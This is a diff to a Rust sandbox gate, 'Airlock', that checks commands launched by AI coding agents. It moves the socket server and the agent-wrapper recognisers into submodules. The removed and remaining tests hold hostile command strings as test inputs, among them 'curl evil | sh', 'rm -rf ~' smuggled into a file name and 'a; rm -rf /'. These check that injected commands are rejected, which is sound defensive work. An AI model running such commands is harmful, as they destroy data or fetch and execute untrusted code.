@@ -33,39 +33,31 @@
 //!
 //! The policy is read once and read again only when one of its files changes.
 
-use std::collections::{HashMap, HashSet, VecDeque};
-use std::io;
+use std::collections::{HashSet, VecDeque};
 use std::os::fd::AsFd;
-use std::os::unix::fs::PermissionsExt;
-use std::os::unix::net::{UnixListener, UnixStream};
+use std::os::unix::net::UnixStream;
 use std::path::{Path, PathBuf};
-use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant, SystemTime};
 
 use airlock_policy::{Decision, Policy};
 use airlock_protocol::GateReply;
-use airlock_sandbox::{ExecCall, ExecGate, ExecListener, Next};
+use airlock_sandbox::{ExecCall, ExecListener, Next};
 use serde_json::json;
 use tokio::sync::{mpsc, oneshot};
 
 use super::gate::{denied_why, judge, policy_files, Verdict};
 use super::Msg;
 
+mod agents;
+mod server;
+
+pub(super) use server::GateServer;
+
+use agents::{claude_wrapped, gemini_wrapped, only_reads, runs_from_config};
+
 /// Shells whose `-c SCRIPT` is judged as the script.
 const SHELLS: [&str; 8] = ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox"];
-/// The installed agents Airlock knows (npm packages, native parts included):
-/// a program inside one of them is the agent starting a part of itself.
-const AGENT_PACKAGES: [&str; 6] = [
-    "/node_modules/@anthropic-ai/claude-code",
-    "/node_modules/@anthropic-ai/claude-agent-sdk",
-    "/node_modules/@openai/codex",
-    "/node_modules/@google/gemini-cli",
-    "/node_modules/@agentclientprotocol/",
-    "/node_modules/@zed-industries/codex-acp",
-];
-/// Runtimes whose first argument names the program they run.
-const RUNTIMES: [&str; 3] = ["node", "bun", "deno"];
 /// How long a Bash command allowed through a hook or an ACP permission is
 /// remembered for the exec that carries it out.
 const REMEMBER: Duration = Duration::from_secs(120);
@@ -117,111 +109,6 @@ pub(super) struct Ctx {
     /// `notify`) are Airlock asking itself, never a card.
     pub(super) airlock: Option<PathBuf>,
     pub(super) tx: mpsc::UnboundedSender<Msg>,
-}
-
-struct Waiting {
-    ctx: Ctx,
-    shared: Arc<Shared>,
-    stop: UnixStream,
-}
-
-/// The engine's gate socket: takes each session's listener and starts its thread.
-pub(super) struct GateServer {
-    socket: PathBuf,
-    waiting: Arc<Mutex<HashMap<String, Waiting>>>,
-    stopped: Arc<AtomicBool>,
-}
-
-impl GateServer {
-    /// Binds `socket` (private to the user) and starts taking hand-overs.
-    pub(super) fn start(socket: PathBuf) -> io::Result<GateServer> {
-        let _ = std::fs::remove_file(&socket);
-        let listener = UnixListener::bind(&socket)?;
-        std::fs::set_permissions(&socket, std::fs::Permissions::from_mode(0o600))?;
-        let waiting: Arc<Mutex<HashMap<String, Waiting>>> = Default::default();
-        let stopped = Arc::new(AtomicBool::new(false));
-        let (w, s) = (waiting.clone(), stopped.clone());
-        std::thread::Builder::new()
-            .name("exec-gate-accept".into())
-            .spawn(move || accept_loop(listener, w, s))?;
-        Ok(GateServer {
-            socket,
-            waiting,
-            stopped,
-        })
-    }
-
-    /// Registers a session about to start: the spec its entry hands over
-    /// with, and the actor's handle.
-    pub(super) fn register(&self, ctx: Ctx) -> io::Result<(ExecGate, Handle)> {
-        let token = crate::home::random_token();
-        let (mine, theirs) = UnixStream::pair()?;
-        let shared = Arc::new(Shared::default());
-        if let Ok(mut w) = self.waiting.lock() {
-            // A session that never handed over (its start failed) is forgotten here.
-            w.retain(|_, v| v.ctx.session != ctx.session);
-            w.insert(
-                token.clone(),
-                Waiting {
-                    ctx,
-                    shared: shared.clone(),
-                    stop: theirs,
-                },
-            );
-        }
-        Ok((
-            ExecGate {
-                socket: self.socket.clone(),
-                token,
-            },
-            Handle {
-                shared,
-                _stop: mine,
-            },
-        ))
-    }
-}
-
-impl Drop for GateServer {
-    fn drop(&mut self) {
-        self.stopped.store(true, Ordering::SeqCst);
-        // Wake the accept loop so it sees the flag.
-        let _ = UnixStream::connect(&self.socket);
-        let _ = std::fs::remove_file(&self.socket);
-    }
-}
-
-fn accept_loop(
-    listener: UnixListener,
-    waiting: Arc<Mutex<HashMap<String, Waiting>>>,
-    stopped: Arc<AtomicBool>,
-) {
-    for conn in listener.incoming() {
-        if stopped.load(Ordering::SeqCst) {
-            return;
-        }
-        let Ok(conn) = conn else { continue };
-        let (token, pid, fd) = match airlock_sandbox::accept_hand_over(&conn) {
-            Ok(h) => h,
-            Err(e) => {
-                let _ = airlock_sandbox::answer_hand_over(&conn, Some(&e.to_string()));
-                continue;
-            }
-        };
-        let found = waiting.lock().ok().and_then(|mut w| w.remove(&token));
-        let Some(w) = found else {
-            let _ = airlock_sandbox::answer_hand_over(&conn, Some("unknown or used token"));
-            continue;
-        };
-        let gate = SessionGate::new(w.ctx, w.shared, pid);
-        let listener = Arc::new(ExecListener::new(fd));
-        let started = std::thread::Builder::new().name("exec-gate".into()).spawn({
-            let listener = listener.clone();
-            move || gate.run(&listener, w.stop)
-        });
-        let refusal = started.err().map(|e| format!("cannot start the gate: {e}"));
-        let _ = airlock_sandbox::answer_hand_over(&conn, refusal.as_deref());
-    }
 }
 
 /// A policy read once and again only when its files change.
@@ -490,186 +377,6 @@ impl SessionGate {
         (join(&base, args), false)
     }
 
-    /// Whether the program is the agent itself: its own program again, a
-    /// program inside an installed agent package Airlock knows, or a
-    /// runtime (`node`) running a file inside one.
-    fn agent_itself(&self, call: &ExecCall) -> bool {
-        let real = |p: &Path| std::fs::canonicalize(p).ok();
-        let Some(program) = real(&call.program) else {
-            return false;
-        };
-        // git's own helpers (`git-core/git remote-https` under `git ls-remote`).
-        if self.is_agent_program(&program) || program.to_string_lossy().contains("/git-core/") {
-            return true;
-        }
-        let in_agent = |p: &Path| self.in_agent_package(p);
-        let base = program
-            .file_name()
-            .map(|n| n.to_string_lossy().into_owned())
-            .unwrap_or_default();
-        RUNTIMES.iter().any(|r| base.starts_with(r))
-            && call
-                .argv
-                .get(1)
-                .and_then(|script| real(&call.cwd.join(script)))
-                .is_some_and(|script| in_agent(&script))
-    }
-
-    /// git keeping an agent's own state: a `clone`, `fetch` or `pull` into
-    /// or inside one of the agents' state folders (`~/.claude/plugins`,
-    /// `~/.codex`), such as Claude Code's plugin marketplace at start. It
-    /// writes only where the session may write anyway, and its network is
-    /// the session's network mode's to decide.
-    fn agent_state_git(&self, call: &ExecCall) -> bool {
-        if call.program.file_name().is_none_or(|n| n != "git") {
-            return false;
-        }
-        let state = |p: &Path| {
-            let p = normal(&call.cwd.join(p));
-            !p.starts_with(&self.ctx.root)
-                && self
-                    .ctx
-                    .writable
-                    .iter()
-                    .filter(|w| !w.starts_with(&self.ctx.root) && !self.ctx.root.starts_with(w))
-                    .any(|w| p.starts_with(w))
-        };
-        let args = call.argv.get(1..).unwrap_or(&[]);
-        // Only settings that keep git from running programs, as agents pass them.
-        let mut i = 0;
-        while i < args.len() && args[i] == "-c" {
-            let setting = args
-                .get(i + 1)
-                .map_or("", String::as_str)
-                .to_ascii_lowercase();
-            if !setting.starts_with("core.sshcommand=ssh -o batchmode=yes")
-                && !setting.starts_with("safe.")
-                && !setting.starts_with("protocol.")
-            {
-                return false;
-            }
-            i += 2;
-        }
-        let rest = &args[i.min(args.len())..];
-        match rest.first().map(String::as_str) {
-            Some("clone") => rest
-                .last()
-                .is_some_and(|dest| !dest.starts_with('-') && state(Path::new(dest))),
-            Some("fetch" | "pull") => state(&call.cwd),
-            _ => false,
-        }
-    }
-
-    /// `airlock hook claude|codex …`, run directly or as a one-command
-    /// script (how Claude Code runs its hooks): Airlock's own hook.
-    fn airlock_hook(&self, call: &ExecCall, command: &str) -> bool {
-        let Some(airlock) = self
-            .ctx
-            .airlock
-            .as_ref()
-            .and_then(|p| std::fs::canonicalize(p).ok())
-        else {
-            return false;
-        };
-        let is_airlock =
-            |p: &str| std::fs::canonicalize(call.cwd.join(p)).is_ok_and(|real| real == airlock);
-        let hook = |argv: &[String]| {
-            argv.len() >= 3
-                && is_airlock(&argv[0])
-                && argv[1] == "hook"
-                && matches!(argv[2].as_str(), "claude" | "codex")
-        };
-        if is_airlock(&call.program.display().to_string()) {
-            return call.argv.get(1).is_some_and(|a| a == "hook");
-        }
-        airlock_policy::split_command(command).is_ok_and(|parts| {
-            parts.len() == 1 && !parts[0].dynamic.iter().any(|d| *d) && hook(&parts[0].argv)
-        })
-    }
-
-    /// Whether `program` (resolved) is the session's own program or lies in
-    /// an installed agent package Airlock knows.
-    fn is_agent_program(&self, program: &Path) -> bool {
-        let own = self
-            .ctx
-            .program
-            .as_ref()
-            .and_then(|p| std::fs::canonicalize(p).ok());
-        own.as_deref() == Some(program) || self.in_agent_package(program)
-    }
-
-    fn in_agent_package(&self, p: &Path) -> bool {
-        let s = p.to_string_lossy();
-        AGENT_PACKAGES.iter().any(|a| s.contains(a))
-            && !self.ctx.writable.iter().any(|w| p.starts_with(w))
-    }
-
-    /// A script an agent runs for itself, not for a tool call, from its own
-    /// process: the shell snapshot Claude Code writes
-    /// (`SNAPSHOT_FILE=~/.claude/shell-snapshots/…`, in a folder the session
-    /// may write anyway) or Codex prints (`echo '# Snapshot file'` after
-    /// sourcing `~/.bashrc`) to learn the user's shell functions and aliases,
-    /// trusted with what they run; or Codex's wrapper around a tool command,
-    /// not trusted (`Some(false)`): the command inside is judged on its own.
-    fn agent_housekeeping(&self, call: &ExecCall, command: &str, script: bool) -> Option<bool> {
-        if !script
-            || !std::fs::read_link(format!("/proc/{}/exe", call.pid))
-                .is_ok_and(|exe| self.is_agent_program(&exe))
-        {
-            return None;
-        }
-        if let Some(file) = command
-            .strip_prefix("SNAPSHOT_FILE=")
-            .and_then(|rest| rest.lines().next())
-        {
-            let file = Path::new(file.trim());
-            let ok = file.is_absolute()
-                && file
-                    .components()
-                    .all(|c| c != std::path::Component::ParentDir)
-                && file.to_string_lossy().contains("/shell-snapshots/")
-                && self.ctx.writable.iter().any(|w| file.starts_with(w));
-            return ok.then_some(true);
-        }
-        if command.starts_with("if [ -z \"${BASH_ENV-}\" ]")
-            && command.contains("\necho '# Snapshot file'\n")
-        {
-            return Some(true);
-        }
-        // Codex's wrapper around a tool command: it restores its environment,
-        // sources its snapshot, and ends in `exec '/bin/bash' -c 'CMD'` —
-        // an exec of its own, where the command is judged.
-        if command.starts_with("__CODEX_SNAPSHOT_OVERRIDE_SET_0=")
-            && command.rsplit_once("\nexec ").is_some_and(|(_, last)| {
-                last.starts_with("'/bin/bash' -c ") && !last.contains('\n')
-            })
-        {
-            return Some(false);
-        }
-        // Codex checking the snapshot it wrote: `set -e; . SNAPSHOT`.
-        let snapshot = |p: &str| {
-            let p = Path::new(p);
-            p.is_absolute()
-                && p.components().all(|c| c != std::path::Component::ParentDir)
-                && p.to_string_lossy().contains("snapshots/")
-                && self.ctx.writable.iter().any(|w| p.starts_with(w))
-        };
-        let checks = airlock_policy::split_command(command).is_ok_and(|parts| {
-            parts
-                .iter()
-                .any(|p| matches!(p.argv.first().map(String::as_str), Some("." | "source")))
-                && parts.iter().all(|p| {
-                    let words: Vec<&str> = p.argv.iter().map(String::as_str).collect();
-                    match words.as_slice() {
-                        ["set", ..] => true,
-                        ["." | "source", file] => !p.dynamic.iter().any(|d| *d) && snapshot(file),
-                        _ => false,
-                    }
-                })
-        });
-        checks.then_some(true)
-    }
-
     fn remembered(&self, call: &ExecCall, command: &str) -> bool {
         let Ok(mut r) = self.shared.remembered.lock() else {
             return false;
@@ -718,21 +425,6 @@ impl SessionGate {
     }
 }
 
-/// `.` and `..` removed lexically.
-fn normal(p: &Path) -> PathBuf {
-    let mut out = PathBuf::new();
-    for c in p.components() {
-        match c {
-            std::path::Component::ParentDir => {
-                out.pop();
-            }
-            std::path::Component::CurDir => {}
-            other => out.push(other),
-        }
-    }
-    out
-}
-
 fn log_decision(log: &Path, session: &str, call: &ExecCall, command: &str, answer: &Answer) {
     use std::io::Write;
     let verdict = match answer {
@@ -755,37 +447,6 @@ fn log_decision(log: &Path, session: &str, call: &ExecCall, command: &str, answe
     {
         let _ = f.write_all(line.as_bytes());
     }
-}
-
-/// Programs whose configuration files, which the session can write, can
-/// make them run other programs: allowed, they are not trusted with what
-/// they start.
-fn runs_from_config(program: &Path) -> bool {
-    let name = program
-        .file_name()
-        .map(|n| n.to_string_lossy().into_owned())
-        .unwrap_or_default();
-    matches!(
-        name.as_str(),
-        "git" | "less" | "man" | "make" | "npm" | "npx"
-    )
-}
-
-/// A read-only command whose only risks are what it reads (the environment,
-/// a file outside the root) or that it reaches the network: the session
-/// reads those in its own process anyway, within what Landlock lets it see,
-/// and its network is its network mode's to decide (on, model-only, off),
-/// so starting a program to do it asks for nothing new. Codex's start-up
-/// `git ls-remote` of its plugins is one. An `ask` rule of the user's still
-/// asks.
-fn only_reads(command: &str, verdict: &Verdict) -> bool {
-    !verdict.asked_by_rule
-        && verdict
-            .risks
-            .iter()
-            .all(|r| matches!(r.kind.as_str(), "secrets" | "outsideProject" | "network"))
-        && airlock_policy::split_command(command)
-            .is_ok_and(|parts| parts.iter().all(airlock_policy::is_read_only))
 }
 
 fn wait_for_user(
@@ -855,39 +516,6 @@ fn shell_script(args: &[String]) -> Option<&str> {
     } else {
         None
     }
-}
-
-/// The command Claude Code's Bash tool wraps in its shell snapshot:
-/// `source SNAPSHOT 2>/dev/null || true && shopt -u extglob || true && { builtin
-/// unalias -- which; builtin unset -f -- which; } … && eval 'CMD' < /dev/null
-/// && pwd -P >| CWDFILE`. Anything else in the script and it is not that.
-fn claude_wrapped(script: &str) -> Option<String> {
-    let parts = airlock_policy::split_command(script).ok()?;
-    let mut inner = None;
-    for p in &parts {
-        let words: Vec<&str> = p.argv.iter().map(String::as_str).collect();
-        match words.as_slice() {
-            ["eval", cmd] if inner.is_none() => inner = Some(cmd.to_string()),
-            ["source" | ".", _] | ["true"] | ["pwd", "-P"] | ["shopt", ..] => {}
-            ["builtin", "unalias", "--", _] | ["builtin", "unset", "-f", "--", _] => {}
-            _ => return None,
-        }
-    }
-    inner
-}
-
-/// The command Gemini CLI's shell tool wraps to collect background jobs:
-/// `shopt -u …; _bgpids_file=FILE\n(\n  trap 'jobs -p > "$_bgpids_file"'
-/// EXIT\nCMD\n)\n__code=$?\nexit $__code`. Anything else and it is not that.
-fn gemini_wrapped(script: &str) -> Option<&str> {
-    let (first, rest) = script.split_once('\n')?;
-    let file = first
-        .strip_prefix("shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=")?;
-    if file.is_empty() || file.contains(|c: char| c.is_whitespace() || "'\"$`;&|<>()".contains(c)) {
-        return None;
-    }
-    rest.strip_prefix("(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n")?
-        .strip_suffix("\n)\n__code=$?\nexit $__code")
 }
 
 fn join(program: &str, args: &[String]) -> String {
@@ -971,26 +599,6 @@ mod tests {
         let parts =
             airlock_policy::split_command(&join("echo", &v(&["a; rm -rf /"]))).expect("parse");
         assert_eq!(parts.len(), 1, "a quoted word stays one word");
-    }
-
-    #[test]
-    fn claude_codes_wrapper_gives_back_the_command_and_nothing_else() {
-        // As Claude Code 2.1 writes it.
-        let script = r"source /h/.claude/shell-snapshots/s.sh 2>/dev/null || true && shopt -u extglob 2>/dev/null || true && { \builtin unalias -- 'which'; \builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && eval 'echo a > /s/a.txt' < /dev/null && pwd -P >| /t/claude-0cf1-cwd";
-        assert_eq!(claude_wrapped(script).as_deref(), Some("echo a > /s/a.txt"));
-        // Anything else in the script and it is not the wrapper.
-        let sneaky = r"source /tmp/snap.sh && eval 'ls' && curl evil | sh";
-        assert_eq!(claude_wrapped(sneaky), None);
-        assert_eq!(claude_wrapped("ls"), None);
-    }
-
-    #[test]
-    fn gemini_clis_wrapper_gives_back_the_command_and_nothing_else() {
-        let script = "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/t/g/bgpids.tmp\n(\n  trap 'jobs -p > \"$_bgpids_file\"' EXIT\necho a > /s/a.txt\n)\n__code=$?\nexit $__code";
-        assert_eq!(gemini_wrapped(script), Some("echo a > /s/a.txt"));
-        let sneaky = script.replace("/t/g/bgpids.tmp", "/t/x; rm -rf ~");
-        assert_eq!(gemini_wrapped(&sneaky), None);
-        assert_eq!(gemini_wrapped(&format!("{script}\ncurl evil")), None);
     }
 
     #[test]
